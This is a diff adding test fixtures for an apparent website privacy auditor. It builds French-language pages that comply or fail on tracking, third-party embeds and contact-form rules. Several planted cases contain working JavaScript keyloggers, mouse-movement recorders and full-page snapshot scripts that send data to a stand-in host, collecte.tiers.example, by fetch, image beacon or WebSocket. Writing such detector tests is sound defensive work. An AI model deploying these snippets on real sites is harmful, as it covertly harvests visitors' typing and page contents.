@@ -1,0 +1,146 @@
+"""Criterion 2, planted."""
+
+from __future__ import annotations
+
+from tests.auditor.cases.site import FORM, Case, bad, document, good, script
+from tests.auditor.town import Reply
+
+TO = "https://collecte.tiers.example"
+OTHER = "third-party-other"
+FIELD = '<form action="/recherche"><label>Recherche <input name="q" type="search"></label></form><label>Pseudo <input type="text" id="p"></label>'
+POSTS = 'fetch("{to}/k",{{method:"POST",mode:"no-cors",body:{body}}})'
+
+
+def listens(body: str, how: str = "") -> str:
+    code = how or POSTS.format(to=TO, body=body)
+    return FIELD + script(
+        f'document.getElementById("p").addEventListener("input",async e=>{{const v=e.target.value;if(v.length>10){{{code}}}}})'
+    )
+
+
+def page_with(form: str) -> dict[str, object]:
+    return {
+        "home": '<a href="/contact">Nous contacter</a>',
+        "pages": {"/contact": Reply(document("Contact", f"<h1>Contact</h1>{form}"))},
+    }
+
+
+HASH = (
+    'const h=[...new Uint8Array(await crypto.subtle.digest("SHA-256",new TextEncoder().encode(v)))].map(b=>b.toString(16).padStart(2,"0")).join("");'
+    + POSTS.format(to=TO, body="h")
+)
+SOCKET = 'window.w=window.w||new WebSocket("wss://collecte.tiers.example/ws");const go=()=>w.send(btoa("{\\"k\\":\\""+v+"\\"}"));w.readyState==1?go():w.addEventListener("open",go)'
+MOUSE = """const seen=[];addEventListener("mousemove",e=>{seen.push({x:e.clientX,y:e.clientY});if(seen.length>=4)fetch("https://collecte.tiers.example/r",{method:"POST",mode:"no-cors",body:JSON.stringify(seen.splice(0))})})"""
+SNAPSHOT = """addEventListener("load",()=>fetch("https://collecte.tiers.example/dom",{method:"POST",mode:"no-cors",body:JSON.stringify({html:document.documentElement.outerHTML})}))"""
+OPINION = '<label>Pour qui voterez-vous ? <input name="vote"></label>'
+BOX = '<label><input type="checkbox" name="accord"> J’accepte que mon opinion politique soit enregistrée</label>'
+
+SENT: tuple[Case, ...] = (
+    bad("keystrokes", "keystrokes-sent", OTHER, home=listens("v")),
+    bad(
+        "keystrokes-in-address",
+        "keystrokes-sent",
+        OTHER,
+        home=listens("", f'new Image().src="{TO}/k?t="+encodeURIComponent(v)'),
+    ),
+    bad("keystrokes-hashed", "keystrokes-sent", OTHER, home=listens("", HASH)),
+    bad("keystrokes-base64-socket", "keystrokes-sent", OTHER, home=listens("", SOCKET)),
+    bad("keystrokes-to-itself", "keystrokes-sent", home=listens("", POSTS.format(to="", body="v"))),
+    good(
+        "typing-stays",
+        home=FIELD
+        + script('document.getElementById("p").addEventListener("input",e=>{window.n=e.target.value.length})'),
+    ),
+    bad("mouse-recorded", "session-recorded", OTHER, home=script(MOUSE)),
+    bad("page-recorded", "session-recorded", OTHER, home=script(SNAPSHOT)),
+    good("mouse-moves", home=script('addEventListener("mousemove",e=>{document.body.dataset.x=e.clientX})')),
+    bad(
+        "identifier",
+        "identifier-sent",
+        "unclassified-identifier",
+        OTHER,
+        home=script(
+            'const i=Math.random().toString(36).slice(2,12)+Math.random().toString(36).slice(2,10);document.cookie="visiteur="+i+";max-age=2592000";'
+            f'new Image().src="{TO}/v?u="+i'
+        ),
+    ),
+    bad(
+        "webrtc",
+        "webrtc-address",
+        home=script(
+            'new RTCPeerConnection({iceServers:[{urls:"stun:stun.l.google.com:19302"}]}).createDataChannel("x")'
+        ),
+    ),
+    good("webrtc-own", home=script("new RTCPeerConnection()")),
+)
+THIRD: tuple[Case, ...] = (
+    bad(
+        "google-fonts",
+        "third-party-fonts",
+        "fonts-from-third-party",
+        head='<link rel="stylesheet" href="https://fonts.googleapis.com/css2?family=Inter">',
+    ),
+    bad("captcha", "third-party-captcha", head='<script src="https://www.google.com/recaptcha/api.js"></script>'),
+    bad(
+        "video",
+        "third-party-video",
+        home='<iframe src="https://www.youtube-nocookie.com/embed/x" title="Vidéo"></iframe>',
+    ),
+    bad("map", "third-party-map", home='<img src="https://tile.openstreetmap.org/1/1/1.png" alt="">'),
+    bad("library", "third-party-cdn", head='<script src="https://cdn.jsdelivr.net/npm/x@1"></script>'),
+    bad("social", "third-party-social", head='<script src="https://platform.twitter.com/widgets.js"></script>'),
+    bad("payment", "third-party-payment", head='<script src="https://js.stripe.com/v3/"></script>'),
+    bad("unlisted", OTHER, home=f'<img src="{TO}/x" alt="">'),
+    good(
+        "video-on-a-click",
+        home="<button onclick=\"this.outerHTML='<iframe src=https://www.youtube-nocookie.com/embed/x></iframe>'\">Voir la vidéo</button>",
+    ),
+    good(
+        "links-only",
+        home='<a href="https://www.facebook.com/elan">Facebook</a> <a href="https://www.youtube.com/elan">YouTube</a>',
+    ),
+    good("banner-tool", head='<script src="https://sdk.privacy-center.org/loader.js"></script>'),
+)
+FORMS: tuple[Case, ...] = (
+    good("honest-form", **page_with(FORM)),
+    bad(
+        "form-no-policy",
+        "form-without-policy",
+        **page_with(FORM.replace('<a href="/confidentialite">Politique de confidentialité</a>', "")),
+    ),
+    bad(
+        "form-no-purpose",
+        "form-without-purpose",
+        **page_with(FORM.replace("Vos données servent pour vous répondre.", "")),
+    ),
+    bad(
+        "form-ticked",
+        "form-ticked-box",
+        **page_with(
+            FORM.replace("<button>", '<label><input type="checkbox" name="lettre" checked> Je m’abonne</label><button>')
+        ),
+    ),
+    bad("form-get", "form-by-get", **page_with(FORM.replace('method="post"', 'method="get"'))),
+    bad(
+        "form-plain",
+        "form-not-encrypted",
+        headers=(
+            ("Strict-Transport-Security", "max-age=31536000"),
+            ("Content-Security-Policy", "frame-ancestors 'none'"),
+            ("X-Content-Type-Options", "nosniff"),
+            ("Referrer-Policy", "same-origin"),
+        ),
+        **page_with(FORM.replace('action="/contact"', 'action="http://www.form-plain.example/contact"')),
+    ),
+    bad(
+        "form-elsewhere",
+        "form-to-third-party",
+        **page_with(FORM.replace('action="/contact"', 'action="https://elan.us1.list-manage.com/subscribe/post"')),
+    ),
+    bad("form-opinion", "form-opinion-without-consent", **page_with(FORM.replace("<button>", f"{OPINION}<button>"))),
+    good("form-opinion-agreed", **page_with(FORM.replace("<button>", f"{OPINION}{BOX}<button>"))),
+    good(
+        "search-form", home='<form action="/recherche"><label>Recherche <input type="search" name="q"></label></form>'
+    ),
+)
+CASES = (*SENT, *THIRD, *FORMS)
